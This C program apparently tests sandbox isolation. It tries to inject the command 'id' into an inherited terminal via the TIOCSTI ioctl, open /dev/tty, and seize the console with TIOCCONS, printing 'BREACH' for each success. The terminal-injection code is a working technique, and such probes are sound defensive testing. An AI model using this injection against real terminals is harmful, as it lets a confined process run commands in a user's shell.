#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
int main(void) { /* types commands into a terminal that it inherited */
    for (int fd = 0; fd < 16; fd++)
        for (const char *c = "id\n"; *c; c++)
            if (ioctl(fd, TIOCSTI, c) == 0) { puts("BREACH typed into the terminal"); break; }
    if (open("/dev/tty", O_RDWR) >= 0) puts("BREACH has a terminal");
    int console = 0;
    if (ioctl(0, TIOCCONS, &console) == 0) puts("BREACH took the console");
    puts("done");
}
